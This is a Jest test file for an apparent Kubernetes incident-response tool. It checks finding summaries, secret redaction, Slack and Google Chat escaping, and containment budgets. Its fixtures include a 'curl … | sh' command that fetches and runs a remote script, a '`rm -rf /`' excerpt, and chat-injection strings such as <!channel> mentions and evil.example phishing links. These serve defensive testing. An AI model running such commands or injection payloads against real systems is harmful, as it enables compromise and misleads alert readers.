// The pure report pieces: summary builder, Slack and Google Chat formatting
// (secrets and hostile strings), and the budget evaluation.
import { describe, expect, it } from '@jest/globals';
import { evaluateBudget, budgetedActions, type BudgetEntry } from '../src/core/plan/budget.ts';
import { formatChat } from '../src/core/summary/chat/format.ts';
import { decodeInput } from '../src/core/finding/envelope.ts';
import { plan as makePlan } from '../src/core/plan/plan.ts';
import { validatePolicy, type Policy } from '../src/core/policy/policy.ts';
import { formatSlack } from '../src/core/summary/slack/format.ts';
import { buildSummary, summaryAttributes, truncate } from '../src/core/summary/summary.ts';
import { SUMMARY_SCHEMA, type Summary } from '../src/core/summary/document.ts';
import { findingKey } from '../src/core/finding/key.ts';
import { notificationV1 } from './support/fixtures.ts';
import { summaryFor as buildCase, type SummaryCase } from './support/summaries.ts';

const SECRET = 'sk_live_EXAMPLEDONOTUSE0000000000';
const NOW = new Date('2026-11-20T14:03:40.000Z');

const livePolicy = (extra: Record<string, unknown> = {}): Policy =>
  validatePolicy({ dryRun: false, rules: [{ name: 'contain', actions: ['label-pod', 'isolate-pod', 'cordon-node', 'delete-pod'] }], ...extra });

const summaryFor = (notification: Record<string, any>, options: SummaryCase = {}): Summary =>
  buildCase(notification, {
    policy: livePolicy(),
    timings: { receivedAt: new Date('2026-11-20T14:03:31.500Z'), publishTime: '2026-11-20T14:03:31.204Z', containmentMs: 1200, evidenceMs: 800 },
    ...options,
  });

const allPayloads = (s: Summary) => [JSON.stringify(s), JSON.stringify(formatSlack(s)), JSON.stringify(formatChat(s))];

describe('buildSummary', () => {
  it('describes the finding, target, processes, decision, actions, links and timings', () => {
    const s = summaryFor(notificationV1());
    expect(s.schema).toBe(SUMMARY_SCHEMA);
    expect(s.id).toMatch(/^[a-f0-9]{64}$/);
    expect(s.outcome).toBe('contained');
    expect(s.finding).toMatchObject({ category: 'Unexpected Child Shell', severity: 'CRITICAL', eventTime: '2026-11-20T14:03:27.512Z' });
    expect(s.finding.consoleUrl).toBe(
      'https://console.cloud.google.com/security/command-center/findingsv2;name=organizations%2F123456789012%2Fsources%2F11223344556677889900%2Ffindings%2F6a7d4f1e2b3c4d5e8f9a0b1c2d3e4f50?organizationId=123456789012',
    );
    expect(s.target).toMatchObject({
      project: 'example-shop-prod',
      cluster: 'shop-prod-1',
      location: 'us-central1',
      namespace: 'payments',
      pod: 'checkout-7c9f8d6b5-q2w8x',
      container: 'checkout',
      node: 'gke-shop-prod-1-default-pool-3f2a9c1b-x7kq',
    });
    expect(s.processes.parent).toMatchObject({ name: 'node', pid: '1', binary: '/usr/local/bin/node' });
    expect(s.processes.child).toMatchObject({ name: 'sh', parentPid: '1', args: ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh'] });
    expect(s.processes.child?.env.map((e) => e.name)).toEqual(['PATH', 'STRIPE_API_KEY', 'HOSTNAME']);
    expect(s.processes.child?.env.every((e) => e.value === null)).toBe(true);
    expect(s.decision).toEqual({ decision: 'respond', reason: 'rule contain matched', rule: 'contain', dryRun: false });
    expect(s.actions.map((a) => `${a.type}:${a.status}`)).toEqual(['label-pod:done', 'isolate-pod:done', 'cordon-node:done', 'delete-pod:done']);
    expect(s.links.mitre.map((m) => m.id)).toEqual(['TA0002', 'T1059', 'T1059.004']);
    expect(s.links.mitre[2]?.url).toBe('https://attack.mitre.org/techniques/T1059/004/');
    expect(s.links.virusTotal[0]).toBe('https://www.virustotal.com/gui/file/e3b98cb3ee2d1e4a0bd5b1a8e5d39c0f3a2c7d8e9f00112233445566778899aa');
    expect(s.timings).toMatchObject({ eventToSummaryMs: 12_488, containmentMs: 1200, evidenceMs: 800, publishTime: '2026-11-20T14:03:31.204Z' });
    expect(s.budget).toEqual({ exceeded: false, denied: [] });
    expect(summaryAttributes(s)).toMatchObject({ category: 'Unexpected Child Shell', severity: 'CRITICAL', cluster: 'shop-prod-1', outcome: 'contained' });
  });

  it('never carries an env value unless the policy opts in by name', () => {
    const redacted = summaryFor(notificationV1());
    for (const payload of allPayloads(redacted)) expect(payload).not.toContain(SECRET);

    const revealed = summaryFor(notificationV1(), { policy: livePolicy({ summary: { revealEnvValues: ['HOSTNAME'] } }) });
    expect(revealed.processes.child?.env).toEqual([
      { name: 'PATH', value: null },
      { name: 'STRIPE_API_KEY', value: null },
      { name: 'HOSTNAME', value: 'checkout-7c9f8d6b5-q2w8x' },
    ]);
    for (const payload of allPayloads(revealed)) expect(payload).not.toContain(SECRET);
  });

  it('is the same id for a redelivery, and a different one for a new occurrence', () => {
    const a = findingKey(notificationV1().finding);
    expect(findingKey(notificationV1().finding).id).toBe(a.id);
    const later = structuredClone(notificationV1());
    later.finding.eventTime = '2026-11-20T15:00:00Z';
    expect(findingKey(later.finding).id).not.toBe(a.id);
  });

  it('truncates args by count and length, and says so', () => {
    const n = structuredClone(notificationV1());
    n.finding.processes[0].args = ['sh', 'x'.repeat(10_000), ...Array.from({ length: 100 }, (_, i) => `a${i}`)];
    const s = summaryFor(n, { policy: livePolicy({ summary: { maxArgs: 8, maxArgLength: 64 } }) });
    expect(s.processes.child?.args).toHaveLength(8);
    expect(s.processes.child?.args[1]).toHaveLength(64);
    expect(s.processes.child?.argsTruncated).toBe(true);
    expect(JSON.stringify(formatSlack(s)).length).toBeLessThan(20_000);
  });

  it('says loudly when the budget refused actions', () => {
    const s = summaryFor(notificationV1(), {
      outcomes: [
        { type: 'label-pod', status: 'done', reason: 'labelled' },
        { type: 'delete-pod', status: 'skipped', reason: 'budget: cluster projects/p/locations/l/clusters/c already had 3 pod removal(s)' },
      ],
    });
    expect(s.budget.exceeded).toBe(true);
    expect(s.headline).toMatch(/^BUDGET EXCEEDED/);
    expect(s.warnings[0]).toMatch(/^delete-pod not run: budget:/);
    expect(formatSlack(s).blocks[0]).toMatchObject({ type: 'header', text: { text: expect.stringMatching(/^BUDGET EXCEEDED/) } });
    expect(JSON.stringify(formatSlack(s))).toContain('Blast-radius budget exceeded');
    expect(formatChat(s).cardsV2[0]?.card.sections[0]?.header).toBe('Blast-radius budget exceeded');
    expect(summaryAttributes(s).budgetExceeded).toBe('true');
  });
});

describe('truncate', () => {
  const wellFormed = (v: string) => (v as string & { isWellFormed(): boolean }).isWellFormed();

  it('never splits a surrogate pair', () => {
    expect(truncate('a😀b', 3)).toBe('a…');
    expect(truncate('ab😀', 3)).toBe('ab…');
    expect(truncate('😀😀😀', 4)).toBe('😀…');
    for (let max = 1; max <= 12; max++) {
      const out = truncate('x😀y😀😀z😀', max);
      expect(out.length).toBeLessThanOrEqual(max);
      expect(wellFormed(out)).toBe(true);
    }
  });

  it('replaces lone surrogates the input already had', () => {
    expect(truncate('a\ud800b', 10)).toBe('a\ufffdb');
    expect(truncate('\udc00', 10)).toBe('\ufffd');
    expect(truncate(`${'x'.repeat(5)}\ud83d`, 20)).toBe('xxxxx\ufffd');
    expect(wellFormed(truncate('\ud800'.repeat(50), 10))).toBe(true);
  });

  it('keeps what fits as it is', () => {
    expect(truncate('abc', 3)).toBe('abc');
    expect(truncate('abcd', 3)).toBe('ab…');
  });
});

describe('hostile strings in Slack and Google Chat payloads', () => {
  // Text that already looks escaped must stay literal: if "&" were not escaped, Slack and Chat
  // would decode "&lt;!here&gt;" into "<!here>" and show (or act on) something the finding never said.
  it('entity-looking text reads back exactly as the finding had it (the & is escaped too)', () => {
    const value = '&lt;!here&gt; &amp; <!channel> &#60;b&#62; &quot;';
    const n = structuredClone(notificationV1());
    n.finding.processes[0].args = ['sh', value];
    const s = summaryFor(n);
    const decodeSlack = (t: string) => t.replace(/&(lt|gt|amp);/g, (_, e: string) => ({ lt: '<', gt: '>', amp: '&' })[e]!);
    const slackText = formatSlack(s).blocks.map((b) => (b.type === 'section' ? (b.text?.text ?? '') : '')).join('\n');
    const spans = [...slackText.matchAll(/`([^`]*)`/g)].map((m) => decodeSlack(m[1]!));
    expect(spans).toContain(value);

    const decodeHtml = (t: string) =>
      t.replace(/&(lt|gt|amp|quot|#39);/g, (_, e: string) => ({ lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'" })[e]!);
    const chatJson = JSON.stringify(formatChat(s));
    expect(chatJson).toContain('&amp;lt;!here&amp;gt; &amp;amp;');
    const paragraphs = formatChat(s).cardsV2[0]!.card.sections.flatMap((x) => x.widgets.flatMap((w) => ('textParagraph' in w ? [w.textParagraph.text] : [])));
    expect(paragraphs.some((p) => decodeHtml(p).includes(value))).toBe(true);
  });

  const HOSTILE = ['&lt;!here&gt;', '&amp;', '<!channel>', '<@U024BE7LH>', '<https://evil.example|click here>', '*bold*', '</b><a href="https://evil.example">x</a>', '@here `code` <users/all>'];

  function hostileSummary(): Summary {
    const n = structuredClone(notificationV1());
    n.finding.processes[0].args = [...HOSTILE, 'A'.repeat(10 * 1024)];
    n.finding.processes[0].binary.path = '/bin/<!everyone>';
    n.finding.kubernetes.pods[0].name = '<!channel> pwned';
    n.finding.containers[0].uri = 'evil.example/x:<@U0001>';
    n.finding.description = '<https://evil.example|Click to fix>';
    return summaryFor(n, {
      outcomes: [{ type: 'label-pod', status: 'skipped', reason: 'pod <!channel> *not found* </b><a href="https://evil.example">' }],
      evidence: {
        queries: [{ kind: 'pod-logs', filter: 'f', url: 'https://evil.example/logs', count: 2, excerpts: ['<!here> got shell', '`rm -rf /`'], incomplete: null }],
        links: {},
        bundle: null,
        notes: [],
      },
      warnings: ['<https://evil.example|warning>'],
    });
  }

  it('Slack: no mention, link or formatting can form, and every value is bounded', () => {
    const message = formatSlack(hostileSummary());
    const json = JSON.stringify(message);
    for (const raw of ['<!channel>', '<!here>', '<!everyone>', '<@U', '<https://evil', '<users/all>', 'https://evil.example/logs']) {
      expect(json).not.toContain(raw);
    }
    expect(json).not.toMatch(/@(channel|here|everyone)/); // broken up with a zero-width space
    expect(json).toContain('&lt;!channel&gt;');
    expect(json).toContain('`&amp;lt;!here&amp;gt;`');
    expect(json).not.toMatch(/`&lt;!here&gt;`/);
    // Attacker text only inside code spans: the bold markers stay literal.
    const args = message.blocks.find((b) => b.type === 'section' && b.text?.text.includes('args'));
    expect(args?.type === 'section' && args.text?.text).toContain('`*bold*`');
    expect(json).not.toContain('A'.repeat(400));
    // The pod name is not a valid Kubernetes name: the header does not show it.
    expect(message.blocks[0]).toMatchObject({ type: 'header', text: { type: 'plain_text', text: expect.stringContaining('invalid-name') } });
    for (const block of message.blocks) {
      if (block.type === 'section' && block.text) expect(block.text.text.length).toBeLessThanOrEqual(3000);
      if (block.type === 'section' && block.fields) for (const f of block.fields) expect(f.text.length).toBeLessThanOrEqual(2000);
      // Every code span is closed: an odd number of backticks would let formatting bleed out.
      if (block.type === 'section' && block.text) expect((block.text.text.match(/`/g) ?? []).length % 2).toBe(0);
    }
    expect(message.blocks.length).toBeLessThanOrEqual(50);
    expect(message.unfurl_links).toBe(false);
  });

  it('Google Chat: no tag, link or mention can form in card text', () => {
    const message = formatChat(hostileSummary());
    const json = JSON.stringify(message);
    for (const raw of ['<!channel>', '</b><a', '<a href="https://evil', '<users/all>', 'https://evil', '<@U']) {
      expect(json).not.toContain(raw);
    }
    expect(json).toContain('&lt;/b&gt;&lt;a href=&quot;https[:]//evil.example&quot;&gt;');
    expect(json).not.toContain('A'.repeat(400));
    // Only allow-listed links become buttons.
    const urls = [...json.matchAll(/"url":"([^"]+)"/g)].map((m) => new URL(m[1] as string).hostname);
    expect(new Set(urls)).toEqual(new Set(['console.cloud.google.com', 'attack.mitre.org', 'www.virustotal.com']));
    expect(Buffer.byteLength(json)).toBeLessThan(32_000);
  });
});

describe('budget evaluation', () => {
  const limits = { windowMinutes: 60, perCluster: { podRemovals: 3, cordons: 1 }, perNamespace: { podRemovals: 2 } };
  const cluster = 'projects/p/locations/l/clusters/c';
  const at = (minutesAgo: number) => NOW.getTime() - minutesAgo * 60_000;
  const req = (key: string, namespace: string, actions: ('delete-pod' | 'evict-pod' | 'cordon-node' | 'label-pod')[]) => ({
    key,
    cluster,
    namespace,
    actions,
    limits,
    now: NOW,
  });

  it('grants within limits and refuses beyond, per cluster and per namespace', () => {
    let entries: BudgetEntry[] = [];
    const results = ['a', 'b', 'c', 'd'].map((key, i) => {
      const r = evaluateBudget(entries, req(key, `ns${i}`, ['cordon-node', 'delete-pod']));
      entries = r.entries;
      return r;
    });
    expect(results.map((r) => r.granted)).toEqual([['cordon-node', 'delete-pod'], ['delete-pod'], ['delete-pod'], []]);
    expect(results[1]?.denied.get('cordon-node')).toMatch(/^budget: cluster .* 1 cordon\(s\) in the last 60 min \(limit 1\)/);
    expect(results[3]?.denied.get('delete-pod')).toMatch(/^budget: cluster .* 3 pod removal\(s\)/);

    const sameNs = [evaluateBudget([], req('x', 'web', ['evict-pod']))];
    sameNs.push(evaluateBudget(sameNs[0]!.entries, req('y', 'web', ['delete-pod'])));
    sameNs.push(evaluateBudget(sameNs[1]!.entries, req('z', 'web', ['delete-pod'])));
    expect(sameNs[2]?.denied.get('delete-pod')).toMatch(/^budget: namespace web .* 2 pod removal\(s\)/);
  });

  it('slides: old entries drop out; a retry of the same key is granted again; non-destructive actions are free', () => {
    const old: BudgetEntry[] = [1, 2, 3].map((i) => ({ key: `k${i}`, action: 'delete-pod', namespace: `n${i}`, at: at(61) }));
    expect(evaluateBudget(old, req('new', 'n', ['delete-pod'])).granted).toEqual(['delete-pod']);
    const full: BudgetEntry[] = [1, 2, 3].map((i) => ({ key: `k${i}`, action: 'delete-pod', namespace: `n${i}`, at: at(5) }));
    expect(evaluateBudget(full, req('k1', 'n1', ['delete-pod'])).granted).toEqual(['delete-pod']);
    expect(evaluateBudget(full, req('k1', 'n1', ['delete-pod'])).entries).toHaveLength(3);
    expect(evaluateBudget(full, req('k9', 'n9', ['label-pod'])).denied.size).toBe(0);
  });

  it('dry-run plans draw nothing', () => {
    const decoded = decodeInput(notificationV1());
    expect(budgetedActions(makePlan(decoded, livePolicy(), NOW))).toEqual(['cordon-node', 'delete-pod']);
    expect(budgetedActions(makePlan(decoded, livePolicy({ dryRun: true }), NOW))).toEqual([]);
  });
});

describe('an excepted finding', () => {
  const EXCEPTING = (extra: Record<string, unknown> = {}) =>
    livePolicy({
      exceptions: [
        {
          name: 'curl-health',
          reason: 'the health probe fetches a script (OPS-1) <!channel>',
          expires: '2027-01-01',
          owner: 'payments-team',
          match: { namespaces: ['payments'], child: { argsContain: ['203.0.113.7/x.sh'] } },
        },
      ],
      ...extra,
    });

  it('has outcome excepted, no actions, and carries the exception', () => {
    const s = summaryFor(notificationV1(), { policy: EXCEPTING() });
    expect(s.outcome).toBe('excepted');
    expect(s.actions).toEqual([]);
    expect(s.headline).toBe(
      'Unexpected Child Shell in shop-prod-1/payments/checkout-7c9f8d6b5-q2w8x: excepted by curl-health (expected until 2027-01-01T00:00:00Z; no action)',
    );
    expect(s.exception).toMatchObject({ name: 'curl-health', reason: 'the health probe fetches a script (OPS-1) <!channel>', expires: '2027-01-01T00:00:00Z', owner: 'payments-team', sinks: ['pubsub', 'slack', 'chat'] });
    expect(s.exception?.muteRule?.filter).toBe(
      'category="Unexpected Child Shell" AND resource.name="//container.googleapis.com/projects/example-shop-prod/locations/us-central1/clusters/shop-prod-1"',
    );
    expect(s.exception?.muteRule?.broaderBy).toEqual(['namespaces', 'child.argsContain']);
    expect(s.decision).toEqual({ decision: 'respond', reason: 'exception curl-health matched (expires 2027-01-01T00:00:00Z): expected, report only', rule: null, dryRun: false });
    expect(summaryAttributes(s).outcome).toBe('excepted');
  });

  it('tells the exception in Slack and Chat, and the suggested mute rule, safely', () => {
    const s = summaryFor(notificationV1(), { policy: EXCEPTING() });
    const slack = JSON.stringify(formatSlack(s));
    expect(formatSlack(s).blocks[0]).toMatchObject({ text: { text: 'Unexpected Child Shell · excepted · shop-prod-1/payments/checkout-7c9f8d6b5-q2w8x' } });
    expect(slack).toContain('*Excepted* by `curl-health` until `2027-01-01T00:00:00Z` · owner `payments-team`');
    expect(slack).toContain('suggested SCC mute rule (not applied)');
    expect(slack).not.toContain('<!channel>');
    const chat = formatChat(s);
    const section = chat.cardsV2[0]!.card.sections.find((x) => x.header === 'Excepted (expected, no action)');
    expect(JSON.stringify(section)).toContain('curl-health');
    expect(JSON.stringify(section)).toContain('category=&quot;Unexpected Child Shell&quot;');
    expect(JSON.stringify(chat)).not.toContain('<!channel>');
    for (const payload of allPayloads(s)) expect(payload).not.toContain(SECRET);
  });

  it('an ordinary finding has no exception', () => {
    const s = summaryFor(notificationV1());
    expect(s.exception).toBeNull();
    expect(JSON.stringify(formatSlack(s))).not.toContain('Excepted');
  });
});
